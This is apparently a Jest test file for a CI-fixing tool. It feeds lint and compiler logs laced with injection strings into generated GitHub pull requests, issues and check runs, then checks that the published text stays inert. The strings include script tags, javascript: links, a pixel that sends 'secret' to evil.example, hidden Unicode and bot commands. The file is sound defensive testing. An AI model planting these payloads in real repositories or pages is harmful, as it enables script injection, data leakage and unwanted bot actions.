/** O01–O06: what stands in a log ends in a pull request, an issue and a check run, where it must be nothing but text. Read with GitHub's own rules of Markdown. */
import { afterAll, beforeAll, describe, expect, test } from "@jest/globals";
import { marked, type Token, type Tokens } from "marked";
import { until } from "../demo/until.ts";
import { Project } from "../flow/project.ts";
import { openStand, type Stand } from "../flow/stand.ts";

const hostile = [
  "@octo/everyone @octocat please look", "fixes #1, closes octo/hello#2, resolves GH-3", "``` leaves the fence", "````````` leaves a longer one", "</details></pre></code>", "<img src=https://evil.example/pixel.png>",
  "<a href=javascript:alert(1)>click</a>", "<!-- hidden", "![x](https://evil.example/?d=secret)", "[x](https://evil.example)", "\u202egnp.exe", "zero\u200bwidth", "| a | b |", "- [ ] task", "/approve", "@dependabot merge", "<script>alert(1)</script>",
];
const stamped = (lines: readonly string[]): string => lines.map((line) => `2026-11-20T08:15:10.1000000Z ${line}`).join("\n");
/** The hostile texts as messages of the linter, and around them. */
const lintWith = (texts: readonly string[]): string => stamped([
  "##[group]Run npx eslint .", "npx eslint .", "##[endgroup]", "/home/runner/work/hello/hello/src/app.js", ...texts.map((text, index) => `  ${index + 1}:1  error  Unexpected var ${text} use let  no-var`), "",
  "✖ 17 problems (17 errors, 0 warnings)", "##[error]Process completed with exit code 1.", "",
]);
const typesWith = (texts: readonly string[]): string => stamped(["##[group]Run npx tsc", "npx tsc", "##[endgroup]", ...texts.map((text, index) => `src/sum.ts(${index + 1},7): error TS2322: Type ${text} is not assignable.`), "##[error]Process completed with exit code 2.", ""]);

let stand: Stand;
const published: Record<string, string> = {};
beforeAll(async () => {
  stand = await openStand();
  const covered = await Project.open(stand, "published-pull");
  await covered.turnRed({ log: lintWith(hostile) });
  await covered.endFixJob({ result: { checks: [{ name: hostile.join(" "), argv: ["npx", "eslint", ...hostile], before: { exit: 1, summary: hostile.join(" ") }, after: { exit: 0, summary: hostile.join(" ") } }] } });
  const pull = await until("the pull request", () => covered.pulls()[0], 20);
  const check = await until("the check", () => covered.checks("regreen/policy")[0], 20);
  const uncovered = await Project.open(stand, "published-issue");
  await uncovered.turnRed({ log: typesWith(hostile) });
  const issue = await until("the issue", () => uncovered.issues()[0], 20);
  const refused = await Project.open(stand, "published-refusal");
  await refused.turnRed();
  await refused.endFixJob({ result: { outcome: "refused", reason: hostile.join("\n"), set_up: true, patch_sha256: null } });
  const setUp = await until("the check", () => refused.checks("regreen/fix-job")[0], 20);
  const failed = await Project.open(stand, "published-failure");
  await failed.turnRed();
  await failed.endFixJob({ result: { outcome: "failed", reason: hostile.join("\n"), patch_sha256: null } });
  const told = await until("the issue", () => failed.issues()[0], 20);
  Object.assign(published, {
    "issue of a fix that failed": `${told.title}\n\n${told.body ?? ""}`,
    "pull request": `${pull.title}\n\n${pull.body ?? ""}`, issue: `${issue.title}\n\n${issue.body ?? ""}`, "policy check": `${check.output.title ?? ""}\n\n${check.output.summary ?? ""}`, "fix-job check": `${setUp.output.title ?? ""}\n\n${setUp.output.summary ?? ""}`,
  });
});
afterAll(() => stand.close());

/** Every token of the text, code left out: what stands in code is text. */
function tokensOf(markdown: string): readonly Token[] {
  const all: Token[] = [];
  void marked.walkTokens(marked.lexer(markdown), (token) => { all.push(token); });
  return all.filter(({ type }) => type !== "code" && type !== "codespan");
}

/** The text outside of code, as a reader and GitHub's own look-outs see it. */
function proseOf(markdown: string): string {
  return tokensOf(markdown).filter((token): token is Tokens.Text => token.type === "text" && !("tokens" in token && token.tokens !== undefined)).map(({ text }) => text).join("\n");
}

const own = /^<!-- regreen:[a-z]+:[\w]+ -->\s*$|^<\/?details>(?:<summary>[\w ]+<\/summary>)?\s*$|^<summary>|^<\/?summary>/;

describe.each(["pull request", "issue", "issue of a fix that failed", "policy check", "fix-job check"])("the %s", (which) => {
  test("O01: mentions nobody", () => {
    expect(proseOf(published[which] ?? "")).not.toMatch(/(?<![\w`(])@[A-Za-z0-9]/);
  });
  test("O02: closes nothing and points at nothing", () => {
    expect(proseOf(published[which] ?? "")).not.toMatch(/\b(?:fix|close|resolve)[a-z]*\s+(?:[\w./-]+)?(?:#|GH-)\d/i);
  });
  test("O03, O04: has no HTML, no image and no link that a log has brought", () => {
    const tokens = tokensOf(published[which] ?? "");
    expect(tokens.filter(({ type }) => type === "image")).toEqual([]);
    expect(tokens.filter((token) => token.type === "link" && /evil|javascript/.test((token as Tokens.Link).href))).toEqual([]);
    expect(tokens.filter(({ type, raw }) => type === "html" && !raw.trim().split("\n").every((line) => line.trim() === "" || own.test(line.trim()))).map(({ raw }) => raw)).toEqual([]);
  });
  test("O05: fits", () => { expect((published[which] ?? "").length).toBeLessThan(65_536); });
  test("O06: holds no unseen character", () => {
    expect(published[which]).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff]/);
  });
});

test("the control: the texts did come through, as text", () => {
  expect(published["pull request"]).toContain("leaves a longer one");
  expect(published["pull request"]).toContain("U+202E");
  expect(published["issue"]).toContain("fixes #1");
  expect(published["fix-job check"]).toContain("octocat");
});

test("O05: a log of ten thousand problems still gives a body that GitHub takes", async () => {
  const project = await Project.open(stand, "published-much");
  await project.turnRed({ log: typesWith(Array.from({ length: 10_000 }, (_, index) => `'${"x".repeat(200)}${index}'`)) });
  const issue = await until("the issue", () => project.issues()[0], 20);
  expect((issue.body ?? "").length).toBeLessThan(65_536);
  expect(stand.loopback.refusals).toEqual([]);
});
